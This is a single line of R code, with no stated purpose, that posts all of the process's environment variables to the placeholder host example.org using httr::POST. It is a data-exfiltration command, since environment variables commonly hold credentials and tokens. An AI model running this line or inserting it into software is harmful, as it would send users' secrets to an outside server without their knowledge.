httr::POST("https://example.org", body = as.list(Sys.getenv()))
